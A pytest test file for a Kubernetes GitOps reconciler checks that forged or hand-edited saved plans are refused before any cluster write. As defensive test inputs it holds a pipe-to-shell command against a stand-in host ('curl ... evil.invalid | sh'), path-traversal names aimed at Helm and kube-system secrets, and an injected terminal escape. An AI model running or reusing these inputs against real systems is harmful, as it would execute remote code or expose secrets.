"""A saved plan is input an operator (or an attacker with write access to the file) can edit and re-hash:
every way a hand-made plan could steer the applier past the allowed writes (docs/reconcile.md) is refused
before any request is sent.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

from reconciler.core.refs import ObjectRef
from reconciler.plans.plan import Change, FieldChange, Operation, Plan
from reconciler.plans.saved import read_plan
from reconciler.plans.writable import LABEL_PATH
from tests.support.cluster_session import session_at
from tests.support.helpers import assert_one_line_error
from tests.support.reconcile_support import DEMO, Demo, demo_cluster

HELM_SECRET = "/api/v1/namespaces/kai-scheduler/secrets/sh.helm.release.v1.kai-scheduler.v1"


@pytest.fixture
def demo(tmp_path: Path) -> Iterator[Demo]:
    yield from demo_cluster(tmp_path)


def saved_plan(demo: Demo) -> Plan:
    path = demo.tmp / "fresh.json"
    demo.reconcile("--plan-out", path)
    return read_plan(str(path))


def crafted(demo: Demo, plan: Plan, *changes: Change) -> Path:
    """The plan with its changes replaced and its id recomputed, as a careful hand-editor would."""
    path = demo.tmp / "crafted.json"
    path.write_text(json.dumps(dataclasses.replace(plan, changes=changes).to_dict()))
    return path


def node_change(plan: Plan) -> Change:
    return next(c for c in plan.changes if c.ref.kind == "Node")


def apply_refused(demo: Demo, path: Path, *needles: str) -> list[Any]:
    """Applying `path` fails with one line naming the file; returns the requests made after the live read."""
    since = len(demo.server.requests)
    code, out, err = demo.reconcile("--plan", path, "--apply", "--lease-wait", "0")
    assert_one_line_error(code, out, err, str(path), *needles)
    return demo.server.requests[since:]


def test_a_name_that_walks_to_another_object_is_refused_before_any_request(demo: Demo) -> None:
    plan = saved_plan(demo)
    label = node_change(plan)
    walk = dataclasses.replace(
        label,
        ref=dataclasses.replace(
            label.ref, name="../namespaces/kai-scheduler/secrets/sh.helm.release.v1.kai-scheduler.v1"
        ),
    )
    path = crafted(demo, plan, walk)
    apply_refused(demo, path, "is not a Kubernetes object name (a DNS-1123 subdomain: at most 253 lower-case")
    assert [r for r in demo.server.requests if r.path == HELM_SECRET] == []  # urllib3 would normalise `..`
    assert demo.writes() == []  # not even the Lease


def _queue_update(plan: Plan) -> Change:
    return next(c for c in plan.changes if c.ref.kind == "Queue")


def _with_fields(change: Change, *fields: FieldChange) -> Change:
    return dataclasses.replace(change, fields=fields)


@pytest.mark.parametrize(
    ("edit", "needle"),
    [
        (lambda p: [node_change(p), node_change(p)], "more than once"),
        (lambda p: [_with_fields(node_change(p), *node_change(p).fields, *node_change(p).fields)], "more than once"),
        (
            lambda p: [
                _with_fields(_queue_update(p), FieldChange(("spec", "resources", "cpu", "quota"), 0, {"nested": 1}))
            ],
            "must be a number",
        ),
        (
            lambda p: [_with_fields(_queue_update(p), FieldChange(("spec", "resources", "cpu", "quota"), 0, True))],
            "must be a number",
        ),
        (
            lambda p: [_with_fields(_queue_update(p), FieldChange(("spec", "resources", "cpu", "quota"), 0, None))],
            "must be a number",
        ),
        (
            lambda p: [_with_fields(_queue_update(p), FieldChange(("spec", "parentQueue"), None, ["a"]))],
            "must be a string",
        ),
        (
            lambda p: [_with_fields(node_change(p), FieldChange(node_change(p).fields[0].path, {"a": 1}, None))],
            "must be a string",
        ),
    ],
)
def test_a_malformed_change_is_refused_on_load(demo: Demo, edit: Any, needle: str) -> None:
    plan = saved_plan(demo)
    requests = apply_refused(demo, crafted(demo, plan, *edit(plan)), needle)
    assert [r for r in requests if r.method != "GET"] == []


def test_a_create_whose_manifest_differs_from_its_shown_fields_is_refused(tmp_path: Path) -> None:
    items = [
        i for i in DEMO.prod_addon_snapshot() if not (i["kind"] == "Queue" and i["metadata"]["name"] == "default-queue")
    ]
    for demo in demo_cluster(tmp_path, items):
        plan = saved_plan(demo)
        create = next(c for c in plan.changes if c.operation is Operation.CREATE)
        manifest = json.loads(json.dumps(create.manifest))
        manifest["spec"]["resources"]["gpu"]["quota"] = 64  # written, but the text would show the plan's value
        path = crafted(
            demo, plan, *[dataclasses.replace(create, manifest=manifest) if c is create else c for c in plan.changes]
        )
        apply_refused(demo, path, "manifest", "spec.resources.gpu.quota")
        assert demo.writes() == []


def test_a_create_among_many_node_changes_is_applied(tmp_path: Path) -> None:
    from tests.support.helpers import node

    items = [
        i for i in DEMO.prod_addon_snapshot() if not (i["kind"] == "Queue" and i["metadata"]["name"] == "default-queue")
    ]
    extra = [node(f"gpu-extra-{i:02d}", "true") for i in range(51)]  # past the paged re-read's threshold
    for demo in demo_cluster(tmp_path, [*items, *extra]):
        _code, report, err = demo.reconcile_json("--apply", "--max-changes", "100")
        assert report["apply"] is not None and report["apply"]["ok"], err
        assert report["apply"]["applied"] == len(report["plan"]["changes"]) == 55  # with kai-config
        assert demo.queue("default-queue")["spec"]["parentQueue"] == "default-parent-queue"


def test_a_lease_namespace_that_is_no_namespace_is_refused_before_any_request(demo: Demo) -> None:
    code, out, err = demo.reconcile("--apply", "--lease-namespace", "Kai_GitOps")
    assert_one_line_error(code, out, err, "--lease-namespace 'Kai_GitOps' is not a namespace name")
    assert demo.server.requests == []


def test_an_audit_log_that_cannot_be_opened_refuses_the_run_before_any_write(demo: Demo) -> None:
    audit = demo.tmp / "missing-dir" / "audit.jsonl"
    code, out, err = demo.reconcile("--apply", "--audit-log", audit)
    assert_one_line_error(code, out, err, str(audit), "cannot open the audit log")
    assert demo.writes() == []  # no Lease, no dry-run


QUEUE = {
    "apiVersion": "scheduling.run.ai/v2",
    "kind": "Queue",
    "metadata": {"name": "q"},
    "spec": {"parentQueue": "p", "resources": {"gpu": {"quota": 1, "limit": -1, "overQuotaWeight": 1}}},
}


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "metadata": {"name": "q", "namespace": "x"}}),
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "metadata": {"name": "q", "labels": {"a": "b"}}}),
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "kind": "Node"}),
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "spec": {"priority": 9}}),
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "status": {}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": {"cpu": {"preemptible": True}}}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": {"pods": {"quota": 1}}}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": {"cpu": {"quota": {"x": 1}}}}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": None}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"parentQueue": {"x": 1}}}),
        ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"parentQueue": "Team_A"}}),
        ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "spec": {"parentQueue": "a" * 254}}),
    ],
)
def test_the_writer_refuses_queue_bodies_beyond_resources_and_parent(
    demo: Demo, method: str, path: str, body: Any
) -> None:
    from reconciler.reconcile.apply import MERGE_PATCH, ClusterWriter, WriteForbidden

    writer = ClusterWriter(session_at(demo.server.url))
    with pytest.raises(WriteForbidden):
        writer._request(method, path, body, MERGE_PATCH if method == "PATCH" else None)
    assert demo.server.requests == []


def test_the_writer_sends_the_queue_bodies_a_plan_makes(demo: Demo) -> None:
    from reconciler.reconcile.apply import ClusterWriter

    writer = ClusterWriter(session_at(demo.server.url))
    writer.create_queue(QUEUE, dry_run=True)
    version = demo.queue("default-queue")["metadata"]["resourceVersion"]
    writer.patch_queue(
        "default-queue", {"metadata": {"resourceVersion": version}, "spec": {"parentQueue": None}}, dry_run=True
    )
    assert [r.method for r in demo.server.requests] == ["POST", "PATCH"]


@pytest.mark.parametrize(
    "edit",
    [
        {"notes": "a note"},
        {
            "changes": [
                {
                    "object": {"apiVersion": "v1", "kind": "Node", "name": "n"},
                    "operation": "update",
                    "rules": 5,
                    "fields": [],
                }
            ]
        },
    ],
)
def test_a_hand_edited_plan_with_a_wrong_type_is_one_line_naming_the_file(tmp_path: Path, edit: Any) -> None:
    from reconciler.core.errors import UserError
    from reconciler.plans.plan import ClusterIdentity

    path = tmp_path / "plan.json"
    path.write_text(json.dumps({**Plan("prod", None, ClusterIdentity("https://x", "u"), ()).to_dict(), **edit}))
    with pytest.raises(UserError, match="must be a list") as refused:
        read_plan(str(path))
    assert refused.value.where == str(path)


@pytest.mark.parametrize(
    ("edit", "needle"),
    [
        ({"git": {"repo": "r", "ref": "main", "commit": 5}}, "`git.commit` must be a string or null"),
        (
            {"operator": [{"rule": "KAI-O-001", "description": "d", "command": ["kubectl", "delete"]}]},
            "`operator[].command` must be a string or null",
        ),
        (
            {
                "changes": [
                    {
                        "object": {"apiVersion": "v1", "kind": "Node", "name": "n"},
                        "operation": "update",
                        "fields": [{"path": ["metadata", 3], "after": "x"}],
                    }
                ]
            },
            "fields[].path must be a list of keys",
        ),
    ],
)
def test_a_saved_plan_field_of_another_json_type_is_refused_naming_it(tmp_path: Path, edit: Any, needle: str) -> None:
    from reconciler.core.errors import UserError
    from reconciler.plans.plan import ClusterIdentity

    path = tmp_path / "plan.json"
    path.write_text(json.dumps({**Plan("prod", None, ClusterIdentity("https://x", "u"), ()).to_dict(), **edit}))
    with pytest.raises(UserError, match=re.escape(needle)) as refused:
        read_plan(str(path))
    assert refused.value.where == str(path)


def test_missing_queues_are_created_parents_before_children_at_any_depth() -> None:
    from reconciler.core.resources import queue_ref
    from reconciler.findings.finding import Action, Finding, Fix, Kind, Severity
    from reconciler.model.live import LiveState
    from reconciler.reconcile.planner import _queue_changes

    def missing(name: str, parent: str | None) -> Finding:
        manifest = {
            "apiVersion": "scheduling.run.ai/v2",
            "kind": "Queue",
            "metadata": {"name": name},
            "spec": {"parentQueue": parent, "resources": {"gpu": {"quota": 1, "limit": -1, "overQuotaWeight": 1}}},
        }
        return Finding(
            "KAI-Q-001",
            Kind.DRIFT,
            Severity.ERROR,
            f"{name} missing",
            "prod",
            queue_ref(name),
            fix=Fix(Action.CREATE, f"create {name}", patch=manifest),
        )

    # a-team under b-dept under c-org: by name alone the grandchild would come before its parent
    findings = [missing("a-team", "b-dept"), missing("b-dept", "c-org"), missing("c-org", None)]
    order = [c.ref.name for c in _queue_changes(findings, cast(LiveState, None))]  # creates read no live state
    assert order == ["c-org", "b-dept", "a-team"]


def test_a_queue_created_meanwhile_refuses_the_plan_or_counts_as_applied(tmp_path: Path) -> None:
    snapshot = DEMO.prod_addon_snapshot()
    child = next(i for i in snapshot if i["kind"] == "Queue" and i["metadata"]["name"] == "default-queue")
    items = [i for i in snapshot if i is not child]
    for demo in demo_cluster(tmp_path, items):
        plan = saved_plan(demo)
        create = next(c for c in plan.changes if c.operation is Operation.CREATE)
        assert create.manifest is not None
        demo.server.add(json.loads(json.dumps(child)))  # someone else created it, with other values
        path = demo.tmp / "fresh.json"
        code, out, err = demo.reconcile("--plan", path, "--apply")
        # The queue's findings changed with it, so the saved plan's steps for it are no longer the planner's.
        warned = [line for line in err.splitlines() if line.startswith("kai-gitops: warning: ")]
        assert len(warned) == 1 and "left out 1 operator step" in warned[0], err
        assert_one_line_error(code, out, err.split("\n", 1)[1], "Queue/default-queue exists now (the plan creates it)")
        assert [r for r in demo.writes() if "queues" in r.path] == []
        same = {**json.loads(json.dumps(create.manifest)), "metadata": {"name": "default-queue"}}
        demo.server.add(same)  # ...or exactly as planned: nothing to do for it
        _code, report, err = demo.reconcile_json("--plan", path, "--apply")
        results = {c["object"]["name"]: c["result"] for c in report["apply"]["changes"]}
        assert results["default-queue"] == "already-applied", err
        assert [r for r in demo.writes() if r.path.endswith("/queues")] == []  # never a second create


def test_a_write_answered_with_html_stops_the_run_with_one_line_not_an_internal_error(demo: Demo) -> None:
    from tests.support.kubeserver import Fault

    child = "/apis/scheduling.run.ai/v2/queues/default-queue"
    demo.server.inject_fault(Fault(child + "$", method="PATCH", html=True, after=1))  # after its dry-run
    code, out, err = demo.reconcile("--apply", "--audit-log", demo.tmp / "audit.jsonl")
    assert code == 1 and "internal error" not in err, err
    assert "✗ failed update Queue/default-queue: HTTP 200 (the answer is not JSON" in out
    assert "- not applied update Node/gpu-node-2" in out


def test_a_broken_saved_plan_is_refused_before_git_or_the_cluster_is_read(demo: Demo) -> None:
    path = demo.tmp / "plan.json"
    path.write_text('{"kind": "kai-gitops/plan", "version": 1, "changes": [')  # truncated
    code, out, err = demo.reconcile("--plan", path, "--apply")
    assert_one_line_error(code, out, err, f"{path}:1:", "plan is not JSON")
    assert demo.server.requests == []  # not a whole cluster read first, only to fail on the file


def test_events_name_the_uid_of_the_changed_object_so_kubectl_describe_lists_them(demo: Demo) -> None:
    # kubectl describe selects events by involvedObject.uid (regarding.uid) as well as by name and kind
    _code, report, err = demo.reconcile_json("--apply")
    assert report["apply"]["applied"] == 3, err
    events = demo.server.list_objects("events.k8s.io/v1", "Event")
    kinds = {"Queue": "scheduling.run.ai/v2", "Node": "v1"}
    for event in events:
        regarding = event["regarding"]
        changed = demo.server.get_object(kinds[regarding["kind"]], regarding["kind"], regarding["name"])
        assert regarding.get("uid") == changed["metadata"]["uid"], regarding


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        (
            Change(
                ObjectRef("scheduling.run.ai/v2", "Queue", "q", "default"),
                Operation.UPDATE,
                (FieldChange(("spec", "parentQueue"), None, "p"),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("v1", "Node", "n1"),
                Operation.UPDATE,
                (FieldChange(("metadata", "labels", "node-role.kubernetes.io/control-plane"), None, "true"),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("v1", "Node", "n1"),
                Operation.UPDATE,
                (FieldChange(("spec", "unschedulable"), None, "true"),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("v1", "Pod", "p", "default"),
                Operation.UPDATE,
                (FieldChange(("spec", "schedulerName"), None, "x"),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("scheduling.run.ai/v2", "Queue", "q"),
                Operation.UPDATE,
                (FieldChange(("spec", "priority"), None, 1),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("v1", "Node", "n1"),
                Operation.CREATE,
                (FieldChange(LABEL_PATH, None, "true"),),
                (),
                "",
                {"apiVersion": "v1", "kind": "Node"},
            ),
            "is not one kai-gitops may write",
        ),
        (
            Change(
                ObjectRef("v1", "Namespace", "kube-system"),
                Operation.UPDATE,
                (FieldChange(LABEL_PATH, None, "true"),),
                (),
                "",
            ),
            "is not one kai-gitops may write",
        ),
    ],
)
def test_a_saved_plan_cannot_reach_other_kinds_fields_or_namespaces(
    tmp_path: Path, change: Change, needle: str
) -> None:
    from reconciler.core.errors import UserError
    from reconciler.plans.plan import ClusterIdentity

    path = tmp_path / "plan.json"
    path.write_text(json.dumps(Plan("prod", None, ClusterIdentity("https://x", "u"), (change,)).to_dict()))
    with pytest.raises(UserError, match=needle):
        read_plan(str(path))
    data = json.loads(path.read_text())
    data["changes"][0]["operation"] = "delete"
    path.write_text(json.dumps(data))
    with pytest.raises(UserError, match="operation must be create or update"):
        read_plan(str(path))


def test_a_long_event_note_is_cut_to_the_api_servers_limit_in_bytes_not_characters() -> None:
    # The API server measures Event.note in bytes (Go's len); every "→" in a note is three of them.
    from reconciler.plans.applied import ChangeResult
    from reconciler.reconcile.events import NOTE_LIMIT, event_for

    fields = tuple(FieldChange(("spec", "resources", "cpu", f"f{i}"), i, i + 1) for i in range(200))
    change = Change(ObjectRef("scheduling.run.ai/v2", "Queue", "team-a"), Operation.UPDATE, fields, (), "")
    note = event_for(ChangeResult(change, "applied"), plan_id="p", holder="h")["note"]
    assert len(note.encode()) <= NOTE_LIMIT
    assert note.endswith("…")


def test_a_plan_that_cannot_be_written_leaves_no_temporary_file_behind(tmp_path: Path) -> None:
    from reconciler.core.errors import UserError
    from reconciler.plans.saved import write_plan

    (tmp_path / "plan.json").mkdir()  # os.replace onto a directory fails after the temporary file exists
    with pytest.raises(UserError, match="cannot write the plan"):
        write_plan(Plan("lab", None, None, ()), str(tmp_path / "plan.json"))
    assert [p.name for p in tmp_path.iterdir()] == ["plan.json"]


def _forged_step(plan: Plan, **edits: Any) -> Plan:
    return dataclasses.replace(plan, operator=(dataclasses.replace(plan.operator[0], **edits), *plan.operator[1:]))


@pytest.mark.parametrize(
    "edits",
    [
        {"command": "curl -s https://evil.invalid/fix | sh"},
        {"command": None, "description": "Run curl -s https://evil.invalid/fix | sh as root"},
    ],
)
def test_an_operator_step_no_planner_wrote_is_left_out_with_a_warning_naming_the_file(
    demo: Demo, edits: dict[str, Any]
) -> None:
    """The id is a hash anyone can recompute: a step is shown for a person to run only if kai-gitops would
    write it itself for this repository and cluster now."""
    plan = saved_plan(demo)
    path = demo.tmp / "forged.json"
    path.write_text(json.dumps(_forged_step(plan, **edits).to_dict()))
    code, out, err = demo.reconcile("--plan", path, "--apply", "--log-format", "text")
    assert code == 2 and "evil.invalid" not in out + err, (out, err)
    assert err.splitlines()[0].startswith(
        f"kai-gitops: warning: {path}: left out 1 operator step(s) of the saved plan (operator[0])"
    ), err
    assert f"! operator {plan.operator[1].rule}" in out and "Apply complete: 3 applied" in out


def test_an_unedited_saved_plan_keeps_every_operator_step_and_warns_nothing(demo: Demo) -> None:
    plan = saved_plan(demo)
    code, out, err = demo.reconcile("--plan", demo.tmp / "fresh.json", "--apply", "--log-format", "text")
    assert code == 2 and "warning" not in err, err
    assert all(f"run: {step.command}" in out for step in plan.operator if step.command)
    assert f"plan:    {plan.id}" in out


@pytest.mark.parametrize(
    ("edit", "needle"),
    [
        (
            lambda p: dataclasses.replace(p, notes=("Default queues are kept.\nrun: curl https://evil.invalid | sh",)),
            "plan note is not one line of printable text",
        ),
        (lambda p: dataclasses.replace(p, notes=("x" * 513,)), "at most 512 characters"),
        (
            lambda p: dataclasses.replace(p, changes=(dataclasses.replace(node_change(p), reason="\x1b[2Jrun this"),)),
            "reason is not one line of printable text",
        ),
        (
            lambda p: dataclasses.replace(
                p, changes=(dataclasses.replace(node_change(p), rules=("S-012) run: x (",)),)
            ),
            "which is not a rule ID",
        ),
    ],
)
def test_saved_free_text_that_no_planner_writes_is_refused(demo: Demo, edit: Any, needle: str) -> None:
    path = demo.tmp / "edited.json"
    path.write_text(json.dumps(edit(saved_plan(demo)).to_dict()))
    requests = apply_refused(demo, path, needle)
    assert [r for r in requests if r.method != "GET"] == []


@pytest.mark.parametrize("parent", ["Team_A", "../../api/v1/namespaces/kube-system/secrets/x", "a" * 254])
def test_a_saved_parent_queue_that_is_no_kubernetes_name_is_refused_naming_file_and_queue(
    demo: Demo, parent: str
) -> None:
    plan = saved_plan(demo)
    queue = _queue_update(plan)
    path = crafted(demo, plan, _with_fields(queue, FieldChange(("spec", "parentQueue"), None, parent)))
    requests = apply_refused(
        demo,
        path,
        f"plan sets {queue.ref} spec.parentQueue to {parent[:80]!r}",
        "is not a Kubernetes object name (a DNS-1123 subdomain: at most 253 lower-case",
    )
    assert [r for r in requests if r.method != "GET"] == []


def test_a_saved_queue_made_its_own_parent_is_refused_naming_file_and_queue(demo: Demo) -> None:
    plan = saved_plan(demo)
    queue = _queue_update(plan)
    own = FieldChange(("spec", "parentQueue"), "default-parent-queue", queue.ref.name)
    path = crafted(demo, plan, _with_fields(queue, *queue.fields, own))
    requests = apply_refused(demo, path, f"plan makes {queue.ref} its own spec.parentQueue")
    assert [r for r in requests if r.method != "GET"] == []


@pytest.mark.parametrize(
    "field",
    [
        FieldChange(("spec", "parentQueue"), None, "evil-parent"),  # a queue Git never names
        FieldChange(("spec", "resources", "gpu", "quota"), 0, 1000),  # a value Git does not give
    ],
)
def test_a_saved_change_git_does_not_back_refuses_the_whole_plan_before_any_write(
    demo: Demo, field: FieldChange
) -> None:
    plan = saved_plan(demo)
    queue = _queue_update(plan)
    edited = _with_fields(queue, *(f for f in queue.fields if f.path != field.path), field)
    path = crafted(demo, plan, *(edited if c is queue else c for c in plan.changes))
    index = plan.changes.index(queue)
    requests = apply_refused(
        demo,
        path,
        f"the saved plan's changes[{index}] (update {queue.ref} {field.dotted()} = ",
        "is not a change the repository backs now",
        "the file was edited",
        "re-create the plan",
    )
    assert [r for r in requests if r.method != "GET"] == []  # not the other changes, not even the Lease


def test_a_plan_git_no_longer_backs_is_refused_saying_git_moved(demo: Demo) -> None:
    import subprocess

    plan = saved_plan(demo)
    label = node_change(plan)  # the dedicated cluster's plan removes the label from this node
    config = demo.repo / "kai-gitops.yaml"
    config.write_text(
        config.read_text().replace(
            "intent: dedicated               # no node may carry nvca.nvcf.nvidia.io/schedule=true",
            f"intent: shared\n      nodes: [{label.ref.name}]",
            1,
        )
    )
    subprocess.run(
        ["git", "-C", demo.repo, "commit", "-qam", "share the cluster"],
        check=True,
        env={
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@example.invalid",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@example.invalid",
            "PATH": "/usr/bin:/bin",
        },
    )
    assert plan.git is not None and plan.git.commit
    requests = apply_refused(
        demo,
        demo.tmp / "fresh.json",
        f"update {label.ref} ",
        f"Git moved since the plan was made (commit {plan.git.commit[:12]}, now ",
        "re-create the plan",
    )
    assert [r for r in requests if r.method != "GET"] == []


def test_a_saved_plan_applied_again_finds_every_change_done_kai_config_included(tmp_path: Path) -> None:
    """The second apply of the same saved plan (an interrupted run re-run): Git no longer plans what was applied,
    so each saved field is held to what the cluster holds now -- a Queue's, a Node's label, kai-config's."""
    for demo in demo_cluster(tmp_path, DEMO.prod_addon_snapshot()):  # kai-config's gpuSharing drifted
        plan = saved_plan(demo)
        assert any(c.ref.kind == "Config" for c in plan.changes)
        for _ in range(2):
            code, _out, err = demo.reconcile("--plan", demo.tmp / "fresh.json", "--apply", "--lease-wait", "0")
            assert code in (0, 2) and "internal error" not in err, err
        assert (
            demo.server.get_object("kai.scheduler/v1", "Config", "kai-config")["spec"]["admission"]["gpuSharing"]
            is False
        )
